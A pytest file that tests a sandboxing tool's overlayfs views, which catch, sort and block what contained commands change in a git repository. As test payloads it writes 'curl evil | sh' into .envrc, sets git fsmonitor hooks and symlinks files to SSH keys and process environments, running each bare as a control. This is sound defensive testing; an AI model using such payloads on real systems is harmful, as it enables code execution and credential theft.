"""Copy-on-write views by their effect: what a command changed comes back sorted, never written.

Every test runs real commands in real overlayfs views under real bubblewrap, on real git
repositories, and reads the result from disk: the repository byte for byte, the view's
sorting (base/changes.py), the victim's files. An attack is also run bare, as a control: the
same payload does reach its target without the view.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.conftest import git, make_repo
from tests.support.containment import (
    finished_as_nobody,
    nobody_dir,
    outside_dir,
    planted_home,
    require_bwrap,
)
from tests.support.sandbox_fixtures import tree_snapshot

from smol_instruments.base import containment
from smol_instruments.base.changes import Changes, classify
from smol_instruments.base.containment import Containment, availability_for
from smol_instruments.base.git import ignored_paths
from smol_instruments.base.overlay import PREFIX, View, remove_tree
from smol_instruments.base.process import ProcessResult, run_process
from smol_instruments.base.writeback import write_back

pytestmark = pytest.mark.usefixtures("bwrap")

SECRET = "PRIVATE-KEY-view-7f3e2a91"
LIMIT = 4096


@pytest.fixture
def bwrap() -> None:
    require_bwrap()


@pytest.fixture
def outside() -> Iterator[Path]:
    with outside_dir() as path:
        yield path


@pytest.fixture
def home(outside: Path) -> Path:
    """A home directory holding credentials, visible to us but not to contained commands."""
    return planted_home(outside, SECRET)


def in_view(
    repo: Path, script: str, *, home: Path | None = None, limit: int = LIMIT
) -> tuple[ProcessResult, Changes]:
    """`script`, contained in a fresh view of `repo`, and what it changed, sorted."""
    environ = {**os.environ, "HOME": str(home)} if home else None
    with View.create(repo) as view:
        result = run_process(
            ["sh", "-c", script],
            cwd=repo,
            timeout=60,
            env=environ,
            contain=Containment(repo, view=view),
        )
        changes = classify(
            repo, view.upper, is_ignored=lambda paths: ignored_paths(repo, paths), limit=limit
        )
    return result, changes


def bare(repo: Path, script: str, *, home: Path | None = None) -> str:
    """The control: `script` run in a copy of `repo` with no view and no containment."""
    copy = repo.parent / f"{repo.name}-bare"
    shutil.copytree(repo, copy, symlinks=True)
    env = {**os.environ, "HOME": str(home)} if home else None
    done = subprocess.run(["sh", "-c", script], cwd=copy, env=env, capture_output=True, text=True)
    return done.stdout + done.stderr


def test_each_kind_of_change_is_sorted(repo: Path) -> None:
    (repo / "docs").mkdir()
    (repo / "docs" / "old.txt").write_text("old\n")
    (repo / "tool.sh").write_text("echo tool\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "more")
    before = tree_snapshot(repo)
    script = (
        "echo '# more' >> README.md; echo new > new.txt; rm app/main.py; "
        "rm -rf docs && mkdir docs && echo fresh > docs/new.txt; "
        "ln -s README.md link; chmod +x tool.sh; printf 'a\\0b' > data.bin; "
        f"head -c {LIMIT + 10} /dev/zero | tr '\\0' x > big.txt; "
        "mkdir -p app/__pycache__ && echo x > app/__pycache__/calc.pyc; "
        "mkdir -p .pytest_cache/v && echo x > .pytest_cache/v/x; "
        "mkdir -p build && echo o > build/out.o; echo log > run.log"
    )
    result, changes = in_view(repo, script)
    assert result.exit_code == 0, result.stderr
    assert tree_snapshot(repo) == before
    by_path = {change.path: (change.old, change.new) for change in changes.files}
    assert by_path == {
        "README.md": (
            "# Sample\n\nA tiny project for tests.\n",
            "# Sample\n\nA tiny project for tests.\n# more\n",
        ),
        "new.txt": (None, "new\n"),
        "app/main.py": ((repo / "app" / "main.py").read_text(), None),
        "docs/new.txt": (None, "fresh\n"),
        "docs/old.txt": ("old\n", None),  # below an opaque directory: gone
    }
    assert sorted(changes.skipped) == [
        "big.txt: larger than 4096 bytes, not proposed",
        "data.bin: a binary file, not proposed",
        "link: a symbolic link",
        "tool.sh: a mode change (chmod), not proposed",
    ]
    assert changes.byproducts == 2
    assert sorted(changes.ignored) == ["build", "run.log"]  # .gitignore: build/, *.log
    assert changes.ignored_files == 2
    assert changes.blocked == []


def test_a_command_that_changed_nothing_has_nothing_to_say(repo: Path) -> None:
    result, changes = in_view(repo, "cat README.md > /dev/null; ls")
    assert result.exit_code == 0 and changes.nothing


PROTECTED_PAYLOAD = (
    "mkdir -p .vscode .idea .smol-instruments .devcontainer && "
    "echo '{\"tasks\": []}' > .vscode/tasks.json && echo '<x/>' > .idea/workspace.xml && "
    "echo 'curl evil | sh' > .envrc && echo 'allow = [\"*\"]' > .smol-instruments/policy.toml && "
    "echo '{}' > .devcontainer/devcontainer.json && echo '* filter=evil' > .gitattributes && "
    "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> nested/.git/config && "
    "git init -q fresh && git -C fresh config core.fsmonitor 'touch /tmp/pwned' && "
    "echo 'repos: []' > .pre-commit-config.yaml && mkdir -p lib/.husky && "
    "echo 'evil' > lib/.husky/pre-commit"
)


def test_protected_places_are_blocked_whether_or_not_they_existed(repo: Path) -> None:
    make_repo(repo / "nested", {"n.txt": "nested\n"})
    (repo / ".vscode").mkdir()
    (repo / ".vscode" / "settings.json").write_text("{}\n")
    nested_config = (repo / "nested" / ".git" / "config").read_text()
    before = tree_snapshot(repo)
    result, changes = in_view(
        repo, PROTECTED_PAYLOAD + " && echo '{\"x\": 1}' > .vscode/settings.json"
    )
    assert result.exit_code == 0, result.stderr
    assert tree_snapshot(repo) == before
    assert (repo / "nested" / ".git" / "config").read_text() == nested_config
    assert not (repo / ".vscode" / "tasks.json").exists() and not (repo / "fresh").exists()
    blocked = changes.blocked
    for line in (
        "created .vscode/tasks.json",
        "changed .vscode/settings.json",
        "created .idea/workspace.xml",
        "created .envrc",
        "created .smol-instruments/policy.toml",
        "created .devcontainer/devcontainer.json",
        "created .gitattributes",
        "changed nested/.git/config",
        "created .pre-commit-config.yaml",
        "created lib/.husky/pre-commit",
    ):
        assert line in blocked, blocked
    assert any(line.startswith("created fresh/.git/ (") for line in blocked), blocked
    assert changes.files == []  # nothing of them is proposed either
    # The control: the same payload, run bare, does create them.
    bare_repo = repo.parent / "repo-bare"
    bare(repo, PROTECTED_PAYLOAD)
    assert (bare_repo / ".vscode" / "tasks.json").exists()
    assert "fsmonitor" in (bare_repo / "nested" / ".git" / "config").read_text()
    assert (bare_repo / "fresh" / ".git" / "config").exists()


def test_a_link_the_command_leaves_is_never_read_through(repo: Path, home: Path) -> None:
    """The command swaps a tracked file and a tracked folder for links to the user's keys
    (and to our own environment): what we read to show the change follows none of them."""
    (repo / "keys").mkdir()
    (repo / "keys" / "README").write_text("public keys go here\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "keys")
    swap = (
        f"rm README.md && ln -s {home}/.ssh/id_ed25519 README.md; "
        f"rm -rf keys && ln -s {home}/.ssh keys; ln -s /proc/self/environ env.txt"
    )
    _, changes = in_view(repo, swap, home=home)
    said = repr(changes)
    assert SECRET not in said
    assert "README.md: a symbolic link (replacing a file)" in changes.skipped
    assert "env.txt: a symbolic link" in changes.skipped
    assert SECRET in bare(repo, swap + "; cat README.md keys/id_ed25519", home=home)  # the control


def test_a_link_in_the_repository_is_never_read_through(repo: Path, home: Path) -> None:
    """The repository itself holds `notes -> ~/.ssh`; the command makes `notes` a folder and
    writes `notes/id_ed25519`: the old side is read from the repository without the link."""
    (repo / "notes").symlink_to(home / ".ssh")
    _, changes = in_view(repo, "rm notes && mkdir notes && echo mine > notes/id_ed25519", home=home)
    assert SECRET not in repr(changes)
    assert [(c.path, c.old, c.new) for c in changes.files] == [("notes/id_ed25519", None, "mine\n")]
    assert "notes: a symbolic link replaced by a directory" in changes.skipped
    assert SECRET in (repo / "notes" / "id_ed25519").read_text()  # the control: through the link


def test_nothing_writes_to_the_view_once_the_command_ended(repo: Path) -> None:
    _, changes = in_view(repo, "(sleep 1; echo late > late.txt) & echo early > early.txt")
    assert [c.path for c in changes.files] == ["early.txt"]  # read after the sandbox ended


def test_an_approved_commands_ignored_outputs_are_written_back(repo: Path, home: Path) -> None:
    (repo / ".gitignore").write_text("build/\n*.log\nnode_modules\n")
    keep = home / "keep"
    keep.mkdir()
    (keep / "important.txt").write_text("keep\n")
    (repo / "node_modules").symlink_to(keep)  # an attacker's link where the output goes
    script = (
        "rm node_modules && mkdir -p node_modules/pkg/.git node_modules/.bin && "
        "echo 'module.exports = 1' > node_modules/pkg/index.js && "
        "echo evil > node_modules/pkg/.git/config && ln -s ../pkg/index.js node_modules/.bin/pkg && "
        "mkdir -p build && echo out > build/out.txt && echo '# new' >> README.md && "
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"
    )
    with View.create(repo) as view:
        result = run_process(
            ["sh", "-c", script], cwd=repo, timeout=60, contain=Containment(repo, view=view)
        )
        assert result.exit_code == 0, result.stderr
        changes = classify(
            repo, view.upper, is_ignored=lambda paths: ignored_paths(repo, paths), limit=LIMIT
        )
        assert sorted(changes.ignored) == ["build", "node_modules"]
        written = write_back(repo, view, changes.ignored, timeout=60)
    assert written.exit_code == 0, written.stderr
    assert (repo / "node_modules" / "pkg" / "index.js").read_text() == "module.exports = 1\n"
    assert os.readlink(repo / "node_modules" / ".bin" / "pkg") == "../pkg/index.js"
    assert not (repo / "node_modules").is_symlink()
    assert not (repo / "node_modules" / "pkg" / ".git").exists()  # protected, even there
    assert (repo / "build" / "out.txt").read_text() == "out\n"
    assert sorted(os.listdir(keep)) == ["important.txt"]  # the link was replaced, not followed
    assert "# new" not in (repo / "README.md").read_text()  # proposed, not written
    assert not (repo / ".vscode").exists()
    assert "created .vscode/tasks.json" in changes.blocked
    assert [c.path for c in changes.files] == ["README.md"]


def test_the_view_needs_a_path_overlayfs_can_take(tmp_path: Path) -> None:
    """A repository whose path overlayfs cannot carry: commands are asked instead (fail
    closed), and the reason says what to do."""
    repo = make_repo(tmp_path / "my,repo")
    availability = availability_for(repo)
    assert not availability.works
    assert "copy-on-write" in availability.detail and "','" in availability.detail
    assert availability.fix and "COMMAND_CONTAINMENT=off" in availability.fix
    plan = containment.plan_command("allow", "allow.read-only", "auto", availability)
    assert plan.ask and not plan.contained and "no sandbox" in (plan.note or "")
    assert availability_for(repo, view=False).works  # git, which only reads, still runs


def test_a_view_left_by_a_killed_process_is_removed(tmp_path: Path, repo: Path) -> None:
    base = Path(tempfile.gettempdir()).resolve()
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True
    )
    left = base / f"{PREFIX}{dead.stdout.strip()}-leftover"
    (left / "upper" / "locked").mkdir(parents=True)
    (left / "upper" / "locked").chmod(0)
    from smol_instruments.base import overlay

    overlay._reaper._swept.discard(base)
    View.create(repo).close()
    assert not left.exists()


def _contained(repo: Path, view: View, script: str) -> ProcessResult:
    return run_process(
        ["sh", "-c", script], cwd=repo, timeout=60, contain=Containment(repo, view=view)
    )


def _mounted_below(path: Path) -> list[str]:
    """Mount points at or below `path` in our mount namespace, as the kernel lists them."""
    with open("/proc/self/mountinfo") as table:
        points = [line.split()[4] for line in table]
    return [p for p in points if p == str(path) or p.startswith(f"{path}/")]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root mounts a view where it runs")
def test_a_view_mounted_where_we_run_is_gone_when_its_command_ends(repo: Path) -> None:
    """Root mounts the view in its own namespace (View.mount_here) for bubblewrap to bind;
    once the command ended nothing of it is mounted, and what it wrote is in the upper layer
    only."""
    before = tree_snapshot(repo)
    with View.create(repo) as view:
        done = _contained(repo, view, "echo new > new.txt")
        assert done.exit_code == 0, done.stderr
        assert _mounted_below(view.scratch) == []
        assert (view.upper / "new.txt").read_text() == "new\n"
    assert tree_snapshot(repo) == before


@pytest.mark.skipif(os.geteuid() != 0, reason="only root mounts a view where it runs")
def test_a_view_left_mounted_by_a_killed_process_is_unmounted_and_removed(repo: Path) -> None:
    """A process killed outright with a view mounted leaves the mount; the next process's
    sweep detaches it before removing the directory, and the repository is untouched."""
    before = tree_snapshot(repo)
    script = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "from smol_instruments.base.overlay import View\n"
        "view = View.create(Path(sys.argv[1]))\n"
        "merged = view.mount_here()\n"
        "(merged / 'written.txt').write_text('in the view')\n"
        "print(view.scratch, merged, flush=True)\n"
        "os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    killed = subprocess.run(
        [sys.executable, "-c", script, str(repo)], capture_output=True, text=True, timeout=60
    )
    assert killed.returncode == -9, killed.stderr
    scratch, merged = (Path(p) for p in killed.stdout.split())
    assert _mounted_below(scratch) == [str(merged)]  # left mounted
    from smol_instruments.base import overlay

    overlay._reaper._swept.discard(scratch.parent)
    View.create(repo).close()
    assert _mounted_below(scratch) == []
    assert not scratch.exists()
    assert tree_snapshot(repo) == before


def test_a_directory_the_command_locked_is_still_removed(tmp_path: Path) -> None:
    tree = tmp_path / "tree"
    (tree / "a" / "b").mkdir(parents=True)
    (tree / "a" / "b" / "f").write_text("x")
    (tree / "a" / "b").chmod(0)
    (tree / "a").chmod(0)
    remove_tree(tree)
    assert not tree.exists()


UNPRIVILEGED = """
import sys
from pathlib import Path
from smol_instruments.base.changes import classify
from smol_instruments.base.containment import Containment, probe_view
from smol_instruments.base.overlay import View, remove_tree
from smol_instruments.base.process import run_process
repo = Path(sys.argv[1])
print(probe_view(repo).detail)
view = View.create(repo)
script = ("id -u; echo changed >> a.txt; echo x > /etc/x; mkdir -p locked/in && "
          "echo y > locked/in/f && chmod 000 locked/in locked")
done = run_process(["sh", "-c", script], cwd=repo, timeout=60,
                   contain=Containment(repo, view=view))
print(done.stdout.strip(), done.stderr.strip())
print(classify(repo, view.upper, is_ignored=lambda paths: set(), limit=100).files)
print((repo / "a.txt").read_text().strip())
remove_tree(view.scratch)  # what the command locked is ours to remove
print(view.scratch.exists())
"""


def test_an_unprivileged_user_gets_the_same_view() -> None:
    """Not root and not in a namespace of our own (userns.py): the view is mounted by
    util-linux's programs in a user namespace of their own (overlay.py)."""
    with nobody_dir() as nobody:
        done = finished_as_nobody(UNPRIVILEGED, nobody)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == (
        "overlayfs views work (mounted by unshare and mount: not entered by this command)"
    ), done.stdout
    assert lines[1].startswith("65534 ") and "Read-only file system" in lines[1]
    assert "Change(path='a.txt', old='original\\n', new='original\\nchanged\\n')" in lines[2]
    assert "Change(path='locked/in/f', old=None, new='y\\n')" in lines[2]  # read though locked
    assert lines[3] == "original"  # the repository, as the view left it
    assert lines[4] == "False"


def _spare_ready(base: Path) -> Path:
    """The view directory the reaper made ahead in `base`, once it is there."""
    from smol_instruments.base import overlay

    for _ in range(500):
        with overlay._reaper._lock:
            spare = overlay._reaper._spares.get(base)
        if spare is not None:
            return spare
        subprocess.run(["sleep", "0.01"], check=True)
    raise AssertionError("no view directory was made ahead")


def test_the_next_views_directory_is_made_ahead_fresh_and_used_once(repo: Path) -> None:
    """A view's directory is made ahead, off the command's path (overlay._Reaper); the view
    that takes it is as fresh as one made on the spot: empty, 0700, ours, its own."""
    base = Path(tempfile.gettempdir()).resolve()
    View.create(repo).close()
    spare = _spare_ready(base)
    assert sorted(p.name for p in spare.iterdir()) == ["upper", "view1", "work1"]
    with View.create(repo) as view:
        assert view.scratch == spare
        assert os.stat(spare).st_mode & 0o777 == 0o700 and os.stat(spare).st_uid == os.geteuid()
        assert list(view.upper.iterdir()) == []
        with View.create(repo) as other:  # taken once: the next view has another
            assert other.scratch != spare
        done = _contained(repo, view, "echo new > new.txt")
        assert done.exit_code == 0, done.stderr
        assert (view.upper / "new.txt").read_text() == "new\n"
        # a second command in the same view gets a fresh work directory of its own
        again = _contained(repo, view, "cat new.txt")
        assert again.exit_code == 0 and again.stdout == "new\n", again.stderr
    assert not (repo / "new.txt").exists()


SPARE_AT_EXIT = """
import os, sys
from pathlib import Path
sys.path[:0] = [sys.argv[2]]
from smol_instruments.base.overlay import View
from tests.test_views import _spare_ready
import tempfile
View.create(Path(sys.argv[1])).close()
spare = _spare_ready(Path(tempfile.gettempdir()).resolve())
print(spare, spare.exists(), flush=True)
child = os.fork()
if child == 0:  # a forked process never takes its parent's spare
    from smol_instruments.base import overlay
    os._exit(3 if overlay._reaper.take_spare(spare.parent) is not None else 0)
print(os.waitpid(child, 0)[1] >> 8, flush=True)
"""


def test_a_view_directory_made_ahead_goes_with_the_process(repo: Path) -> None:
    """What was made ahead and never used is removed when the process exits; a process
    forked from it never takes it."""
    root = Path(__file__).resolve().parents[1]
    done = subprocess.run(
        [sys.executable, "-c", SPARE_AT_EXIT, str(repo), str(root)],
        capture_output=True,
        text=True,
        cwd=root,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    made, forked = done.stdout.splitlines()
    path, existed = made.rsplit(" ", 1)
    assert existed == "True"  # the control: it was there while the process ran
    assert forked == "0"
    assert not Path(path).exists()
